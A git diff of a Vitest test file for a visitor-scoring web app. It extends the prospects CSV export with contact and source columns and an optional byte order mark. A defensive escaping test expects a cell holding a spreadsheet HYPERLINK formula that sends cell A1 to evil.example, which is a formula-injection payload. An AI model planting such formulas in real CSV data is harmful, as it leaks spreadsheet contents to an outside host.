@@ -2,7 +2,7 @@ import { createScheduledController } from "cloudflare:test";
 import { env } from "cloudflare:workers";
 import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
 import worker from "../../worker/index";
-import { api, createSite, event, tableCounts, track, visitor } from "../support/api";
+import { api, beaconBody, createSite, event, ORIGIN, sendBeacon, tableCounts, track, visitor } from "../support/api";
 import { captureQueue, drainQueue, type Queued } from "../support/jobs";
 
 const HOUR = 3_600_000;
@@ -97,8 +97,8 @@ describe("the first worked example, end to end", () => {
     const csv = await api(`/api/sites/acme/prospects?date=${today}&format=csv`);
     expect(csv.headers.get("content-type")).toContain("text/csv");
     const lines = (await csv.text()).trimEnd().split("\r\n");
-    expect(lines[0]).toBe("visitor_id,email,score,class,grade,prospect_since,new,reasons");
-    expect(lines[1]).toMatch(/^visitor-journey,,50,prospect,,\d{4}-\d\d-\d\dT[\d:.]+Z,no,Contact page view \+20; Page view \+12; Came back a third time \+10$/);
+    expect(lines[0]).toBe("visitor_id,email,score,class,grade,prospect_since,new,reasons,name,company,title,last_seen,source");
+    expect(lines[1]).toMatch(/^visitor-journey,,50,prospect,,\d{4}-\d\d-\d\dT[\d:.]+Z,no,Contact page view \+20; Page view \+12; Came back a third time \+10,,,,\d{4}-\d\d-\d\dT[\d:.]+Z,$/);
     expect(lines).toHaveLength(3);
   });
 
@@ -135,6 +135,24 @@ describe("the first worked example, end to end", () => {
     expect((await api(`/api/sites/acme/prospects?${query}`)).status).toBe(status);
   });
 
+  it("puts name, company, title, last seen and source in the CSV, with a byte order mark for Excel on request", async () => {
+    await createSite("acme", { prospectAt: 1, rules: [{ id: "pv", points: 1, when: { event: "pageview" } }] });
+    await track("acme", "visitor-0001", event("pageview"), event("identify", "/", 0, { d: { email: "zoe@acme.example", first_name: "Zoë", last_name: "Ångström", company: "Acme, Inc.", title: "CTO" } }));
+    const body = beaconBody("acme", "visitor-0002", [event("pageview")]);
+    body.e[0]!.u = `${ORIGIN}/?utm_source=newsletter&utm_medium=email`;
+    expect((await sendBeacon(body)).status).toBe(202);
+    const plain = await (await api("/api/sites/acme/prospects?format=csv")).arrayBuffer();
+    const withBom = new Uint8Array(await (await api("/api/sites/acme/prospects?format=csv&bom=1")).arrayBuffer());
+    expect([...withBom.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    expect(withBom.slice(3)).toEqual(new Uint8Array(plain));
+    const lines = new TextDecoder().decode(plain).trimEnd().split("\r\n");
+    const rows = lines.slice(1).map((l) => l.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/).slice(8));
+    expect(rows).toEqual([
+      ["Zoë Ångström", '"Acme, Inc."', "CTO", expect.stringMatching(/^\d{4}-.*Z$/), ""],
+      ["", "", "", expect.stringMatching(/^\d{4}-.*Z$/), "newsletter / email"],
+    ]);
+  });
+
   it("escapes a rule label that would run as a spreadsheet formula in the CSV", async () => {
     await createSite("acme", {
       prospectAt: 3,
@@ -142,7 +160,7 @@ describe("the first worked example, end to end", () => {
     });
     await track("acme", "visitor-0001", event("pageview"));
     const csv = await (await api("/api/sites/acme/prospects?format=csv")).text();
-    const cell = csv.trimEnd().split("\r\n")[1]?.split(",").slice(7).join(",");
+    const cell = csv.trimEnd().split("\r\n")[1]?.split(",").slice(7, -5).join(",");
     expect(cell).toBe('"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"") +5"');
   });
 });
